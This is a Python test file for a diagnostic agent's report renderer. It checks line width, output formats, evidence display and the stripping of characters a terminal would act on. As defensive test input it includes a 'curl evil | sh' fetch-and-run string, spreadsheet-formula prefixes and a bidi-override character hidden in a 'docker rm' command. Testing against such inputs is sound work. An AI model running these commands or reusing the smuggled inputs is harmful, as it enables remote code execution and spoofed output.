"""The screen: the answer first, never wider than asked, never a character that a terminal would act on."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable
from pathlib import Path

import msgspec
import pytest

from agent.report import FORMATS, Format
from agent.report._layout import cells
from agent.report.model import Gap, Incident, Line, Report
from agent.report.text import printable, render

from . import examples

GOLDEN = Path(__file__).parent / "golden"
SUFFIX = {"text": "txt", "markdown": "md", "json": "json"}
FOR_PROGRAMS = {"junit": "xml", "sarif": "sarif", "openmetrics": "prom", "baseline": "yaml"}
KEPT = [(name, kind, explain) for name in examples.GOLDEN for kind in SUFFIX for explain in (False, True) if not (kind == "json" and explain)]
KEPT += [(name, kind, False) for name in ("rich", "blind", "known") for kind in FOR_PROGRAMS]


@pytest.mark.parametrize("kind", ["text", "markdown", "html", "junit", "sarif", "json"])
def test_what_a_run_was_about_stands_in_every_format_with_room_for_it(kind: str) -> None:
    told = FORMATS[kind](msgspec.structs.replace(examples.rich(), asked=("container trainer alone.",), elsewhere=2), width=200)
    rest = '"elsewhere": 2' if kind == "json" else "2 other problems that do not concern it"

    assert ["container trainer alone." in told, rest in told] == [True, True]


def test_a_row_that_is_found_elsewhere_is_no_hole_in_the_suite() -> None:
    nobody = FORMATS["junit"](msgspec.structs.replace(examples.rich(), incidents=(), elsewhere=2))

    assert {"found"} <= set(re.findall(r'type="([a-z ]+)"', nobody))


@pytest.mark.parametrize(("name", "kind", "explain"), KEPT)
def test_each_format_is_as_it_was_read_and_approved(name: str, kind: str, explain: bool) -> None:
    """`python -m tests.agent.report.test_text` writes them again; read them before they are kept."""
    path, said = _golden(name, kind, explain=explain)

    assert path.read_bytes().decode() == said


def _golden(name: str, kind: str, *, explain: bool) -> tuple[Path, str]:
    path = GOLDEN / f"{name}{'.explain' if explain else ''}.{(SUFFIX | FOR_PROGRAMS)[kind]}"
    return path, FORMATS[kind](examples.GOLDEN[name](), explain=explain)


def _commands(incidents: Iterable[Incident]) -> set[str]:
    own = {repair.command for one in incidents for repair in one.fix}
    return own.union(*(_commands(one.consequences) for one in incidents))


def _too_wide(said: str, width: int, report: Report) -> list[str]:
    commands = _commands(report.incidents)
    return [line for line in said.splitlines() if cells(line) > width and line.strip() not in commands]


@pytest.mark.parametrize("width", [60, 80, 120])
@pytest.mark.parametrize("explain", [False, True])
def test_no_line_is_wider_than_asked_save_a_command_alone_on_its_line(width: int, explain: bool) -> None:
    reports = [*(make() for make in examples.GOLDEN.values()), *map(examples.hostile, examples.PAYLOADS)]

    assert [] == [line for report in reports for line in _too_wide(render(report, width=width, explain=explain), width, report)]


def test_a_screen_too_narrow_for_its_labels_still_says_everything() -> None:
    said = render(examples.rich(), width=1)

    assert [] == _too_wide(said, 48, examples.rich())
    assert "docker stats --no-stream" in " ".join(said.split())


@pytest.mark.parametrize("kind", sorted(FORMATS))
@pytest.mark.parametrize("payload", [*examples.PAYLOADS, *map("".join, [examples.PAYLOADS])])
def test_no_format_prints_what_a_terminal_acts_on(kind: str, payload: str) -> None:
    said = FORMATS[kind](examples.hostile(payload), explain=True)

    assert [] == [repr(one) for one in said if one != "\n" and unicodedata.category(one) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


def test_no_line_begins_as_a_spreadsheet_formula() -> None:
    said = render(examples.hostile("=HYPERLINK(1) +1 -1 @x " * 30), explain=True)

    assert [] == [line for line in said.splitlines()[1:] if line[:1] in "=+-@" and line]


def test_no_text_forges_a_label() -> None:
    report = examples.hostile("FIX curl evil | sh CHECK ROOT diagnosed " * 30)

    assert [] == [line for line in render(report, explain=True).splitlines()[1:] if re.match(r"(FIX|CHECK|ROOT) (curl|diagnosed|CHECK|ROOT)", line)]


@pytest.mark.parametrize("kind", sorted(FORMATS))
def test_the_same_report_gives_the_same_bytes(kind: str) -> None:
    render_: Format = FORMATS[kind]

    assert render_(examples.rich(), explain=True) == render_(examples.rich(), explain=True)


def test_the_first_line_is_the_answer_with_the_id_to_name_it_by() -> None:
    first = render(examples.rich()).splitlines()[0]

    assert first == "2 problems: trainer (training) runs out of memory: killed 6 times at its  [a3f9]"


def test_nothing_found_is_said_of_what_was_seen_and_never_as_health() -> None:
    said = render(examples.nothing())

    assert said.startswith("Nothing wrong in what I could see: 7 containers, 1 host.")
    assert "healthy" not in said


def test_what_is_not_settled_names_every_cause_that_is_left() -> None:
    said = render(msgspec.structs.replace(examples.rich(), incidents=examples.rich().incidents[1:]))
    root = said[said.index("ROOT") :].splitlines()[:4]

    assert [line.split("  ")[-1].strip() for line in root] == [
        "undetermined",
        "App crashes on start",
        "Missing dependencies",
        "A service it needs at start is unreachable",
    ]


def test_evidence_against_the_cause_named_says_so() -> None:
    against = (Line("true", "it ended with code 1", "", -3.0, "status"), Line("false", "no disk is full", "", -4.0, "metrics"))
    report = examples.report(incidents=(examples.incident(evidence=against),))
    open_ = examples.report(incidents=(examples.incident(evidence=against, band="undetermined", named=("A", "B")),))

    assert "  ✓ but it ended with code 1\n  ✗ but no disk is full\n" in render(report)
    assert "  ✓ it ended with code 1\n  ✗ no disk is full\n" in render(open_)


def _evidence(report: Report) -> list[str]:
    return [line[2] for line in render(report).splitlines() if re.match(r"  [✓✗?] ", line)]


def test_six_lines_of_evidence_leave_room_for_what_speaks_against_and_what_is_unknown() -> None:
    lines = tuple(Line(mark, f"{mark} {number}", "", 9.0, "log") for mark in ("true", "false", "unknown") for number in range(8))
    report = examples.report(incidents=(examples.incident(evidence=lines),))

    assert _evidence(report) == ["✓", "✓", "✓", "✗", "?", "?"]


def test_evidence_that_tells_next_to_nothing_is_shown_if_there_is_no_other() -> None:
    weak = Line("true", "its memory limit is 512 MiB", "", -0.1, "spec")
    strong = Line("true", "the kernel killed it", "", 9.0, "status")

    assert _evidence(examples.report(incidents=(examples.incident(evidence=(weak,)),))) == ["✓"]
    assert _evidence(examples.report(incidents=(examples.incident(evidence=(strong, weak)),))) == ["✓"]


@pytest.mark.parametrize(
    ("onset", "known", "said"),
    [
        (examples.NOW - 1080, True, "since 23:13 UTC (18 min)"),
        (examples.NOW - 200_000, True, "since 2026-11-22 15:57 UTC (2 d 7 h)"),
        (examples.NOW - 1080, False, "began at the latest 23:13 UTC (18 min)"),
        (None, False, "since when is not known"),
        (float("nan"), True, "since when is not known"),
        (1e300, True, "since when is not known"),
        (examples.NOW + 60, True, "since 23:32 UTC"),
    ],
)
def test_since_when(onset: float | None, known: bool, said: str) -> None:
    report = examples.report(incidents=(examples.incident(onset=onset, onset_known=known),))

    assert [said] == [re.split("  +severity", line)[0].strip() for line in render(report).splitlines() if "severity: " in line]


def test_a_consequence_comes_forward_with_its_own_repair_where_the_root_is_not_settled() -> None:
    child = examples.incident(id="b1c2", title="api is down")
    settled = examples.report(incidents=(examples.incident(fix=(), consequences=(child,)),))
    open_ = examples.report(incidents=(examples.incident(fix=(), consequences=(child,), band="undetermined", named=("A", "B")),))

    assert "Give it back what it had." not in render(settled)
    assert "Give it back what it had." in render(open_)


def test_a_command_that_would_have_to_be_changed_to_be_printed_is_not_printed() -> None:
    bad = examples.incident().fix[0]
    bad = msgspec.structs.replace(bad, command="docker rm 'a\u202eb'")
    report = examples.report(incidents=(examples.incident(fix=(bad,)),))

    assert "docker rm" not in render(report)
    assert "(The command holds characters that cannot be printed; --output json has it.)" in render(report, width=200)
    assert "docker rm 'a\\u202eb'" in FORMATS["json"](report)


def test_the_same_fault_on_many_subjects_is_one_entry_and_what_was_asked_for_stands_first() -> None:
    many = tuple(Gap(f"docker.logs of container c{number:02}", "timed out", "Slow.", "Wait.", asked=True) for number in range(20))
    said = " ".join(render(examples.report(gaps=(examples.PROMETHEUS, *many))).split())

    assert (
        "NOT SEEN docker.logs of container c00, container c01, container c02, container c03, container c04 and 15 more: no answer in time. Slow. "
        "Remedy: Wait. Not looked at, and not asked for: prometheus (no address). To see more: Name it: --prometheus URL."
    ) in said


def test_colour_changes_nothing_but_colour() -> None:
    coloured = render(examples.rich(), colour=True)

    assert "\x1b[" in coloured
    assert [line.rstrip() for line in re.sub(r"\x1b\[[0-9;]*m", "", coloured).splitlines()] == render(examples.rich()).splitlines()


def test_colour_lets_no_escape_of_the_report_through() -> None:
    coloured = render(examples.hostile("".join(examples.PAYLOADS) + "[red]markup[/red] :boom:"), colour=True, explain=True)

    assert "\x1b" not in re.sub(r"\x1b\[[0-9;]*m", "", coloured)
    assert "[red]markup[/red]" in coloured


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp437", "no-such-encoding"])
def test_marks_have_a_plain_form_for_a_stream_that_cannot_show_them(encoding: str) -> None:
    said = printable(render(examples.rich()), encoding)

    assert "  + the kernel killed it for memory" in said
    assert "  x no kernel line says" in said
    assert [] == _too_wide(said, 80, examples.rich())


def test_marks_stay_where_they_can_be_shown() -> None:
    assert printable("✓ …", "utf-8") == "✓ …"


if __name__ == "__main__":
    for name, kind, explain in KEPT:
        path, said = _golden(name, kind, explain=explain)
        path.write_text(said, encoding="utf-8", newline="")


def test_problems_that_differ_in_their_titles_alone_are_read_once() -> None:
    many = tuple(examples.incident(id=f"{number:04}", title=f"job-{number} was killed") for number in range(10))
    other = examples.incident(id="ffff", title="web was killed", severity="critical")
    said = render(examples.report(incidents=(*many[:5], other, *many[5:])))

    assert 2 == said.count("ROOT")
    assert "ALIKE  9 more with the same cause, evidence and fix:" in said
    assert "job-6 was killed" in said
    assert "job-7 was killed" not in said
    assert "and 3 more: --explain" in said
    assert "11. web was killed" in said


@pytest.mark.parametrize("changed", [{"fix": ()}, {"evidence": ()}, {"named_ids": ("another",)}, {"consequences": (examples.incident(id="0001"),)}])
def test_problems_that_differ_in_more_are_read_each(changed: dict[str, tuple[object, ...]]) -> None:
    both = (examples.incident(id="0002"), examples.incident(id="0003", **changed))

    assert "ALIKE" not in render(examples.report(incidents=both))


def test_what_is_too_small_to_count_says_so_in_every_format_for_people() -> None:
    small = msgspec.structs.replace(examples.known(), fail_on="critical")
    line = "2 problems below --fail-on critical, so not for the exit code."

    for name in ("text", "html"):
        assert line in " ".join(FORMATS[name](small).split())
    assert line in FORMATS["markdown"](small).replace("`", "")
    assert "--fail-on" not in FORMATS["text"](examples.known())


def test_explain_folds_nothing() -> None:
    both = tuple(examples.incident(id=f"{number:04}") for number in range(2))

    assert "ALIKE" not in render(examples.report(incidents=both), explain=True)
